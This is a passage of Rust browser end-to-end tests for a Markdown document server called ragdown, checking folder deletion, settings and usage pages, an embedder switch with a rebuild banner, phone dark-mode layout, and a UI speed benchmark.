    wait_until(&c, "return location.pathname === '/f/crew'").await;
    assert!(ui.docs.path().join("crew").is_dir() && !ui.docs.path().join("team").exists());
    click_button(&c, "Delete").await;
    let delete = c
        .find(Locator::XPath(
            "//dialog//button[normalize-space()='Delete folder']",
        ))
        .await
        .unwrap();
    assert!(
        !delete.is_enabled().await.unwrap(),
        "enabled before the name is typed"
    );
    fill(&c, "dialog input[name=confirm]", "crew").await;
    delete.click().await.unwrap();
    wait_until(&c, "return location.pathname === '/'").await;
    assert!(!ui.docs.path().join("crew").exists());
    c.close().await.unwrap();
}

/// The text of one cell of a settings row.
async fn setting_cell(c: &Client, key: &str, cell: &str) -> String {
    c.find(Locator::Css(&format!("tr[data-setting={key}] td.{cell}")))
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_settings_and_usage() {
    let ui = Ui::start(&[("RAGDOWN_TEXT_LIMIT", "700")]).await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    click(&c, Locator::LinkText("Settings")).await;
    wait_for(&c, "table.settings-table").await;
    assert_eq!(setting_cell(&c, "text_limit", "env").await, "700");
    assert_eq!(setting_cell(&c, "text_limit", "saved").await, "—");

    // A saved value wins over the variable, and is in .ragdown-server.json.
    fill(&c, "#setting-text_limit", "500").await;
    click(
        &c,
        Locator::Css("tr[data-setting=text_limit] button[type=submit]"),
    )
    .await;
    wait_until(&c, "return document.querySelector('tr[data-setting=text_limit] td.saved')?.textContent === '500'").await;
    let saved_file = ui.docs.path().join(".ragdown-server.json");
    let saved: Value =
        serde_json::from_str(&std::fs::read_to_string(&saved_file).unwrap()).unwrap();
    assert_eq!(saved["text_limit"], 500);
    screenshot(&c, "settings-server").await;
    // Back to the variable.
    click(&c, Locator::Css("tr[data-setting=text_limit] button.link")).await;
    wait_until(&c, "return document.querySelector('tr[data-setting=text_limit] td.saved')?.textContent === '—'").await;
    // Nothing is saved any more: the file is gone.
    assert!(!saved_file.exists());
    assert_eq!(
        c.find(Locator::Css("#setting-text_limit"))
            .await
            .unwrap()
            .prop("value")
            .await
            .unwrap()
            .as_deref(),
        Some("700")
    );

    // The log is off: Usage says so plainly. Turned on, a search shows up there; then cleared.
    click(&c, Locator::LinkText("Usage")).await;
    let off = wait_for(&c, ".banner").await.text().await.unwrap();
    assert!(off.contains("query log is off"), "{off}");
    click(&c, Locator::LinkText("Settings → Server")).await;
    click(&c, Locator::Css("#setting-query_log")).await;
    wait_until(&c, "return document.querySelector('tr[data-setting=query_log] td.saved')?.textContent === 'on'").await;
    c.goto(&format!("{}/search?q=restore&folder=work", ui.base))
        .await
        .unwrap();
    wait_for(&c, "ol.hits li").await;
    c.goto(&format!("{}/settings/usage", ui.base))
        .await
        .unwrap();
    let usage = wait_for(&c, "dl.usage").await.text().await.unwrap();
    assert!(usage.contains("1 (0 by agents, 1 here)"), "{usage}");
    screenshot(&c, "settings-usage").await;
    click_button(&c, "Clear the log").await;
    c.accept_alert().await.unwrap();
    wait_until(&c, "return document.querySelector('dl.usage')?.textContent.includes('0 (0 by agents, 0 here)')").await;
    c.close().await.unwrap();
}

/// Like [`wait_until`], for work that takes longer than a page (a rebuild with the real model).
async fn wait_long(client: &Client, script: &str, secs: u64) {
    let deadline = Instant::now() + Duration::from_secs(secs);
    while client.execute(script, vec![]).await.unwrap() != Value::Bool(true) {
        let text = client
            .execute("return document.body.innerText", vec![])
            .await
            .unwrap();
        assert!(
            Instant::now() < deadline,
            "never true: {script}; the page says: {text}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Switching to the real model re-embeds every folder: the banner counts the rebuild while it
/// runs, and a hook `min_score` at or under the model's off-topic floor is flagged (the `hash`
/// embedder has no floor, so nothing is flagged before).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn switching_the_embedder_shows_the_rebuild_and_flags_a_low_floor() {
    let bulk = 600;
    // ~70 tokens a section: MiniLM on two cores re-embeds it in tens of seconds, long enough
    // for the banner to be seen counting.
    let ui = Ui::start_over(&[], Duration::from_secs(30), |docs| {
        runbooks(docs, "work/bulk", bulk, 4);
        bulk
    })
    .await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    click(&c, Locator::LinkText("Settings")).await;
    wait_for(&c, "table.settings-table").await;
    let flagged = "return !!document.querySelector('tr[data-setting=min_score] [role=alert]')";
    fill(&c, "#setting-min_score", "0.3").await;
    click(
        &c,
        Locator::Css("tr[data-setting=min_score] button[type=submit]"),
    )
    .await;
    wait_until(&c, "return document.querySelector('tr[data-setting=min_score] td.saved')?.textContent === '0.3'").await;
    assert_eq!(
        c.execute(flagged, vec![]).await.unwrap(),
        Value::Bool(false)
    );

    wait_for(&c, "#setting-embedder")
        .await
        .select_by_label("minilm")
        .await
        .unwrap();
    wait_long(
        &c,
        "return !!document.querySelector('.banner progress')",
        60,
    )
    .await;
    let banner = c
        .find(Locator::Css(".banner"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    // `Indexing: 40 of 603 files read, …`: the folders still rebuilding (`home`, one file,
    // may be done already), counted while it runs.
    let total: usize = banner
        .split(" of ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no file count in {banner}"));
    assert!(
        banner.starts_with("Indexing: ") && (bulk..=bulk + 4).contains(&total),
        "{banner}"
    );
    screenshot(&c, "settings-rebuild").await;
    // The bar moves and the banner goes when the rebuild is done.
    wait_long(&c, "return !document.querySelector('.banner')", 120).await;
    let status: Value = reqwest::get(format!("{}/api/status", ui.base))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(status["files"], 4 + bulk, "{status}");
    assert!(
        status["embedder"].as_str().unwrap().contains("minilm"),
        "{status}"
    );

    // MiniLM's floor is 0.35: 0.3 is under it, 0.5 is not.
    wait_long(&c, flagged, 10).await;
    let flag = c
        .find(Locator::Css("tr[data-setting=min_score] [role=alert]"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(flag.contains("off-topic floor (0.35)"), "{flag}");
    c.execute(
        "document.querySelector('tr[data-setting=min_score]').scrollIntoView({block: 'center'})",
        vec![],
    )
    .await
    .unwrap();
    screenshot(&c, "settings-low-floor").await;
    fill(&c, "#setting-min_score", "0.5").await;
    click(
        &c,
        Locator::Css("tr[data-setting=min_score] button[type=submit]"),
    )
    .await;
    wait_until(&c, "return document.querySelector('tr[data-setting=min_score] td.saved')?.textContent === '0.5'").await;
    assert_eq!(
        c.execute(flagged, vec![]).await.unwrap(),
        Value::Bool(false)
    );
    c.close().await.unwrap();
}

/// At a phone's width, in the system's dark mode: the pages fit the screen (nothing scrolls
/// sideways), the colours are the dark ones, and Esc closes a dialog.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_phone_in_dark_mode_reads_searches_and_closes_a_dialog_with_esc() {
    let ui = Ui::start(&[]).await;
    let c = ui
        .browser_with(
            &["--force-dark-mode"],
            json!({"mobileEmulation": {"deviceMetrics": {"width": 390, "height": 844, "pixelRatio": 1}}}),
        )
        .await;
    sign_in(&c, &ui.base).await;
    let width = c.execute("return window.innerWidth", vec![]).await.unwrap();
    assert_eq!(width, json!(390), "not a phone's width");
    let dark = c
        .execute(
            "return matchMedia('(prefers-color-scheme: dark)').matches",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(dark, Value::Bool(true), "the browser is not in dark mode");
    let fits = "return document.documentElement.scrollWidth <= window.innerWidth";
    let dark_page = "const [r, g, b] = getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number); return r + g + b < 150";
    assert_eq!(
        c.execute(dark_page, vec![]).await.unwrap(),
        Value::Bool(true)
    );
    assert_eq!(c.execute(fits, vec![]).await.unwrap(), Value::Bool(true));
    screenshot(&c, "phone-dark-folders").await;

    c.goto(&format!("{}/f/work/backups.md", ui.base))
        .await
        .unwrap();
    wait_for(&c, ".markdown h2").await;
    assert_eq!(c.execute(fits, vec![]).await.unwrap(), Value::Bool(true));
    // The title has the screen's width: a short one stays on one line.
    let title_lines = "const h = document.querySelector('.markdown h1'); return Math.round(h.getBoundingClientRect().height / parseFloat(getComputedStyle(h).lineHeight))";
    assert_eq!(c.execute(title_lines, vec![]).await.unwrap(), json!(1));
    screenshot(&c, "phone-dark-document").await;
    click_button(&c, "Move").await;
    wait_for(&c, "dialog[open] input").await;
    c.active_element()
        .await
        .unwrap()
        .send_keys("\u{E00C}")
        .await
        .unwrap();
    wait_until(&c, "return !document.querySelector('dialog[open]')").await;

    c.goto(&format!("{}/search?q=restore", ui.base))
        .await
        .unwrap();
    wait_for(&c, "ol.hits li").await;
    assert_eq!(c.execute(fits, vec![]).await.unwrap(), Value::Bool(true));
    screenshot(&c, "phone-dark-search").await;
    c.close().await.unwrap();
}

/// Runs `script` in the page as an async script: it calls `done(value)` (the last argument)
/// when its wait is over.
async fn in_page(client: &Client, script: &str) -> Value {
    let body = format!("const done = arguments[arguments.length - 1]; {script}");
    client.execute_async(&body, vec![]).await.unwrap()
}

/// Milliseconds since the page's navigation began when `css` first matches, checked once per
/// frame (so at most a frame late, and after the browser laid it out).
const APPEARS: &str = "const css = arguments[0]; const check = () => document.querySelector(css) ? done(performance.now()) : requestAnimationFrame(check); check();";

async fn appears_ms(client: &Client, css: &str) -> f64 {
    let body = format!("const done = arguments[arguments.length - 1]; {APPEARS}");
    client
        .execute_async(&body, vec![json!(css)])
        .await
        .unwrap()
        .as_f64()
        .unwrap()
}

/// How long the request for `url_part` took (the last one), from the browser's resource timing.
async fn request_ms(client: &Client, url_part: &str) -> f64 {
    client
        .execute(
            "const e = performance.getEntriesByType('resource').filter(e => e.name.includes(arguments[0])).pop(); return e ? e.responseEnd - e.startTime : -1",
            vec![json!(url_part)],
        )
        .await
        .unwrap()
        .as_f64()
        .unwrap()
}

/// The UI's speed, printed (a benchmark, not a timed test; `scripts/bench-ui.sh` runs it, with
/// `RAGDOWN_TEST_BIN=target/release/ragdown` against a release build): the folder list's
/// first paint, a 1 MB document opened, search as you type over 10,000 documents, and the
/// 10,000-document folder's tree shown and toggled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a benchmark: scripts/bench-ui.sh"]
async fn benchmark() {
    let many = 10_000;
    let big_sections = 560;
    let ui = Ui::start_over(&[], Duration::from_secs(900), |docs| {
        for dir in 0..many / 100 {
            runbooks(docs, &format!("many/team-{dir:03}"), 100, 0);
        }
        // 1 MB of Markdown: 560 sections of lists, a table, links and prose.
        let mut big = String::from("# Handbook\n\n");
        for s in 0..big_sections {
            big.push_str(&format!("## Part {s}\n\n"));
            for p in 0..4 {
                big.push_str(&format!(
                    "Paragraph {p} of part {s} explains how the **service {s}** is run, with \
                     [[Runbook {s}]] for the details and `code {p}` where it matters. {}\n\n",
                    "Every step is checked twice before it is marked done. ".repeat(6)
                ));
            }
            big.push_str("- one\n- two\n- three\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n");
        }
        write(docs, "big/handbook.md", big.as_bytes());
        println!("the big document: {} KB", big.len() / 1024);
        many + 1
    })
    .await;
    let c = ui.browser().await;
    sign_in(&c, &ui.base).await;
    let mut figures: Vec<(&str, f64)> = Vec::new();

    // The folder list, loaded afresh with the token kept.
    c.goto(&ui.base).await.unwrap();
    figures.push((
        "folder list: cards on screen",
        appears_ms(&c, "ul.cards").await,
    ));
    figures.push((
        "folder list: /api/folders",
        request_ms(&c, "/api/folders").await,
    ));
    let fcp = c
        .execute(
            "return performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? -1",
            vec![],
        )
        .await
        .unwrap();
    figures.push(("folder list: first contentful paint", fcp.as_f64().unwrap()));

    // A 1 MB document, opened by its URL.
    c.goto(&format!("{}/f/big/handbook.md", ui.base))
        .await
        .unwrap();
    let last = format!("#h-part-{}", big_sections - 1);
    figures.push(("1 MB document: on screen", appears_ms(&c, &last).await));
    figures.push((
        "1 MB document: /api/render",
        request_ms(&c, "/api/render").await,
    ));

    // Search as you type, over every folder: from the last key to the hits on screen.
    c.goto(&ui.base).await.unwrap();
    wait_for(&c, "ul.cards").await;
    let search = wait_for(&c, "input[name=q]").await;
    search.send_keys("restart worker 4242").await.unwrap();
    let typed = in_page(
        &c,
        "const t = performance.now(); const check = () => document.querySelector('ol.hits li') ? done(performance.now() - t) : requestAnimationFrame(check); check();",
    )
    .await;
    figures.push((
        "search as you type: last key → hits (250 ms pause included)",
        typed.as_f64().unwrap(),
    ));
    figures.push((
        "search as you type: /api/search",
        request_ms(&c, "/api/search").await,
    ));

    // The 10,000-document folder: its whole tree, then a subfolder closed and opened again.
    c.goto(&format!("{}/f/many", ui.base)).await.unwrap();
    let tree = format!("ul.tree li:nth-child({}) a", 100);
    figures.push(("10k folder: tree on screen", appears_ms(&c, &tree).await));
    let all = c
        .execute(
            "return document.querySelectorAll('ul.tree a').length",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(all, json!(many), "the tree shows every document");
    figures.push(("10k folder: /api/docs", request_ms(&c, "/api/docs").await));
    let toggle = in_page(
        &c,
        "const s = document.querySelector('ul.tree summary'); const t = performance.now(); s.click(); requestAnimationFrame(() => requestAnimationFrame(() => { s.click(); requestAnimationFrame(() => requestAnimationFrame(() => done((performance.now() - t) / 2))); }));",
    )
    .await;
    figures.push(("10k folder: a subfolder toggled", toggle.as_f64().unwrap()));
    screenshot(&c, "benchmark-10k-folder").await;

    println!("\n| UI figure | ms |\n|---|---|");
    for (name, ms) in &figures {
        println!("| {name} | {ms:.0} |");
    }
    let json: serde_json::Map<String, Value> = figures
        .iter()
        .map(|(name, ms)| (name.to_string(), json!((ms * 10.0).round() / 10.0)))
        .collect();
    std::fs::write(
        screenshots().join("../ui-bench.json"),
        serde_json::to_string_pretty(&json).unwrap(),
    )
    .unwrap();
    c.close().await.unwrap();
}
